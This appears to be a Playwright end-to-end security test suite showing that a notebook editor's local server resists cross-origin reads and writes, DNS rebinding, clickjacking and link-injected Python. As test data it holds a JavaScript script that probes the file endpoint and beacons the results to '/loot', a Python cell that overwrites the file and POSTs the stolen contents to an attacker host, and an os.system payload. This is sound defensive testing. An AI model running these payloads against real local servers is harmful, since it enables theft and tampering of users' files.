"""`rivulet edit`, attacked from Chromium: nobody but the page opened from the
printed URL reads or writes the notebook file (issue 7, item 8).

The attacker's host is a second server on 127.0.0.1 (another port: another
origin); DNS rebinding is played with a ``*.localhost`` name, which Chromium
resolves to 127.0.0.1 itself.  Every test checks the file's bytes afterwards
and that its text never reached the attacker.
"""

from __future__ import annotations

import http.server
import json
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect

from rivulet_e2e import BOOT_TIMEOUT, Rivulet, encode_code, new_context, notebook_text, rivulet_edit

pytestmark = pytest.mark.e2e

SECRET = "user-secret-5d1c"  # in the user's file; must never reach the attacker
USER_NOTEBOOK = notebook_text(f"token = {SECRET!r}", "x = 20", "x * 2")
HIDDEN_CELL = "__import__('os').system('echo pwned')"
EVIL_NOTEBOOK = notebook_text(HIDDEN_CELL)


# ------------------------------------------------------------------ servers


@dataclass
class EditServer:
    url: str  # as printed, with #key=
    path: Path
    port: int
    key: str

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@pytest.fixture
def edit_server(tmp_path: Path, site_url: str) -> Iterator[EditServer]:  # site_url: dist/ is fresh
    path = tmp_path / "analysis.py"
    path.write_text(USER_NOTEBOOK, encoding="utf-8")
    with rivulet_edit(path) as url:
        yield EditServer(url, path, urlsplit(url).port, url.rpartition("#key=")[2])


@dataclass
class Attacker:
    """The attacker's host: serves ATTACK_PAGES and records every request it gets."""

    origin: str
    pages: dict[str, str] = field(default_factory=dict)
    received: list[tuple[str, str, str]] = field(default_factory=list)  # (method, path, body)

    def got(self, path: str) -> list[str]:
        return [body for _, p, body in self.received if p == path]

    def everything(self) -> str:
        return json.dumps(self.received)


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    state = Attacker(origin="")

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

        def _answer(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length).decode("utf-8", "replace") if length else ""
            path = urlsplit(self.path).path
            state.received.append((self.command, path, body))
            page = state.pages.get(path)
            data = (page or "ok").encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8" if page else "text/plain")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        do_GET = do_POST = do_PUT = _answer

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    state.origin = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield state
    server.shutdown()
    server.server_close()


# ------------------------------------------------------------------ the attacker's page

# Every way a page on another origin can call the file endpoint with fetch.
# window.__done holds {name: {status, type, text} | {error}} when it has tried all.
ATTACK_SCRIPT = """
const target = TARGET + "/__rivulet__/file";
const evil = EVIL;
const tries = {
  "GET": () => fetch(target),
  "GET no-cors": () => fetch(target, { mode: "no-cors" }),
  "GET with a guessed key": () => fetch(target, { headers: { "X-Rivulet-Key": "guess" } }),
  "GET with credentials": () => fetch(target, { credentials: "include" }),
  "PUT": () => fetch(target, { method: "PUT", body: evil }),
  "PUT text/plain": () => fetch(target, { method: "PUT", body: evil, headers: { "Content-Type": "text/plain" } }),
  "PUT with a guessed key": () => fetch(target, { method: "PUT", body: evil, headers: { "X-Rivulet-Key": "guess" } }),
  "PUT keepalive": () => fetch(target, { method: "PUT", body: evil, keepalive: true }),
  "POST no-cors": () => fetch(target, { method: "POST", mode: "no-cors", body: evil }),
  "PUT no-cors": () => fetch(target, { method: "PUT", mode: "no-cors", body: evil }),
};
(async () => {
  const results = {};
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      const r = await attempt();
      results[name] = { status: r.status, type: r.type, text: r.type === "opaque" ? "" : await r.text() };
    } catch (err) {
      results[name] = { error: String(err) };
    }
  }
  window.__done = results;
  navigator.sendBeacon("/loot", JSON.stringify(results));
})();
"""


def _attack_page(target: str, *, frame: bool = False) -> str:
    script = ATTACK_SCRIPT.replace("TARGET", json.dumps(target)).replace("EVIL", json.dumps(EVIL_NOTEBOOK))
    # A frame of the editor under the attacker's page would let it trick clicks (clickjacking).
    iframe = f'<iframe id="editor" src="{target}/?file=/__rivulet__/file&amp;save=put"></iframe>' if frame else ""
    return f"<!doctype html><html><head><title>cute cats</title></head><body>{iframe}<script>{script}</script></body></html>"


def _run_attack_page(page: Page, url: str) -> dict:
    page.goto(url)
    page.wait_for_function("window.__done !== undefined", timeout=BOOT_TIMEOUT)
    return page.evaluate("window.__done")


def _assert_untouched(edit: EditServer, *, settle: float = 1.0) -> None:
    time.sleep(settle)  # a late write (keepalive, a save-back) would land by now
    assert edit.path.read_text(encoding="utf-8") == USER_NOTEBOOK
    assert [p.name for p in edit.path.parent.iterdir() if "rivulet-tmp" in p.name] == []


def test_a_page_on_another_origin_can_neither_read_nor_write_the_file(browser: Browser, edit_server, attacker):
    attacker.pages["/cats.html"] = _attack_page(edit_server.origin, frame=True)
    context = new_context(browser)
    try:
        page = context.new_page()
        results = _run_attack_page(page, attacker.origin + "/cats.html")
        # The editor refuses to be framed by another origin (frame-ancestors 'self').
        page.wait_for_timeout(1000)
        expect(page.frame_locator("#editor").locator("#rv-header")).to_have_count(0)
    finally:
        context.close()
    assert set(results) >= {"GET", "PUT", "GET no-cors", "POST no-cors"}
    for name, result in results.items():
        # Blocked by CORS (an error) or opaque (status 0, no text): nothing read.
        assert "error" in result or (result["type"] == "opaque" and result["text"] == ""), (name, result)
    assert SECRET not in json.dumps(results)
    assert SECRET not in attacker.everything()
    _assert_untouched(edit_server)


def test_a_dns_rebound_name_gets_misdirected_request(browser: Browser, edit_server, attacker):
    # Before rebinding, rebind.localhost:PORT served the attacker's page (played
    # by a route); afterwards the name points to 127.0.0.1, so the page's
    # same-origin requests reach the edit server, with Host: rebind.localhost:PORT.
    rebound = f"http://rebind.localhost:{edit_server.port}"
    context = new_context(browser)
    try:
        page = context.new_page()
        page.route(
            rebound + "/cats.html",
            lambda route: route.fulfill(status=200, content_type="text/html", body=_attack_page(rebound)),
        )
        results = _run_attack_page(page, rebound + "/cats.html")
        site = page.evaluate("fetch('/').then(r => r.status)")
    finally:
        context.close()
    # Same origin now, so the page sees the answers: the server refused them all.
    for name in ("GET", "GET with a guessed key", "PUT", "PUT with a guessed key"):
        assert results[name]["status"] == 421, (name, results[name])
    assert site == 421  # static files too: the page never loads on a rebound name
    assert SECRET not in json.dumps(results)
    _assert_untouched(edit_server)


# ------------------------------------------------------------------ a notebook link on the edit origin

# Python a link makes run in the page's worker (same origin as the edit server):
# reads and writes the file with sync XHR and pyfetch, then sends what it got home.
LINK_CELL = """
import json
from js import XMLHttpRequest
from pyodide.http import pyfetch

ATTACKER = {attacker!r}
EVIL = {evil!r}

def xhr(method, url, body=None, key=None):
    request = XMLHttpRequest.new()
    request.open(method, url, False)
    if key:
        request.setRequestHeader("X-Rivulet-Key", key)
    try:
        request.send(body)
        return f"{{request.status}} {{request.responseText}}"
    except Exception as exc:
        return f"error {{exc}}"

xhr("POST", ATTACKER + "/started", "started")
loot = {{
    "xhr GET": xhr("GET", "/__rivulet__/file"),
    "xhr PUT": xhr("PUT", "/__rivulet__/file", EVIL),
    "xhr GET guessed key": xhr("GET", "/__rivulet__/file", key="guess"),
    "xhr PUT guessed key": xhr("PUT", "/__rivulet__/file", EVIL, key="guess"),
}}
for method, body in (("GET", None), ("PUT", EVIL)):
    try:
        response = await pyfetch("/__rivulet__/file", method=method, body=body)
        loot["pyfetch " + method] = f"{{response.status}} {{await response.string()}}"
    except Exception as exc:
        loot["pyfetch " + method] = f"error {{exc}}"
xhr("POST", ATTACKER + "/loot", json.dumps(loot))
loot
"""


def _link_url(edit: EditServer, attacker: Attacker) -> str:
    cell = LINK_CELL.format(attacker=attacker.origin, evil=EVIL_NOTEBOOK)
    # The URL `rivulet edit` prints, minus the key the attacker does not have:
    # the page would also save the notebook back to the file.
    return f"{edit.origin}/?file=/__rivulet__/file&save=put#code/" + encode_code(notebook_text(cell))


def _open_link_and_wait(browser: Browser, url: str, attacker: Attacker, *, quiet: float = 10.0) -> None:
    """Open the link in a fresh context; return once the attack's Python sent its
    loot, or the kernel has been ready for `quiet` seconds without it running."""
    context = new_context(browser)
    try:
        page = context.new_page()
        page.goto(url)
        deadline = time.monotonic() + BOOT_TIMEOUT / 1000
        ready_at = None
        while time.monotonic() < deadline:
            if attacker.got("/loot"):
                time.sleep(2)  # let the page's save-back (if any) happen
                return
            if ready_at is None and page.evaluate("document.documentElement.dataset.kernel") == "ready":
                ready_at = time.monotonic()
            if ready_at is not None and time.monotonic() - ready_at > quiet:
                return
            time.sleep(0.25)
    finally:
        context.close()


def test_python_from_a_link_on_the_edit_origin_cannot_read_or_write_the_file(browser: Browser, edit_server, attacker):
    """Server side: without the per-run key the file endpoint refuses the
    notebook's requests (whether or not the page runs the link at all)."""
    _open_link_and_wait(browser, _link_url(edit_server, attacker), attacker)
    assert SECRET not in attacker.everything()
    for loot in attacker.got("/loot"):
        for name, answer in json.loads(loot).items():
            assert answer.startswith(("403 ", "error ")), (name, answer)
    _assert_untouched(edit_server)


def test_the_edit_origin_does_not_run_a_notebook_from_a_link(browser: Browser, edit_server, attacker):
    """Page side: on the edit server's origin the page opens only its file;
    a #code/ link's Python never runs there."""
    _open_link_and_wait(browser, _link_url(edit_server, attacker), attacker)
    assert attacker.received == []
    _assert_untouched(edit_server)


# ------------------------------------------------------------------ the page itself still works

def test_the_page_takes_the_key_from_the_link_opens_and_saves_the_file(browser: Browser, edit_server):
    """The server half of the contract in a real browser: same-origin requests
    (Origin, Sec-Fetch-Site as Chromium sends them) with the key get through,
    and the page carries the edit marker."""
    context = new_context(browser)
    try:
        page = context.new_page()
        page.goto(edit_server.url)
        marker = page.locator('meta[name="rivulet-edit"]')
        expect(marker).to_have_attribute("content", "/__rivulet__/file")
        app = Rivulet(page, edit_server.origin + "/")
        app.wait_until_ready()
        expect(app.output(2)).to_have_text("40", timeout=BOOT_TIMEOUT)
        # the key left the address bar at once: a copied URL does not carry it
        assert "key=" not in page.url
        app.run_cell(1, "x = 21")
        expect(app.output(2)).to_have_text("42")
        deadline = time.monotonic() + 15
        while "x = 21" not in edit_server.path.read_text(encoding="utf-8") and time.monotonic() < deadline:
            time.sleep(0.2)
        text = edit_server.path.read_text(encoding="utf-8")
        assert "    x = 21\n" in text and SECRET in text and text.startswith("import marimo")
    finally:
        context.close()
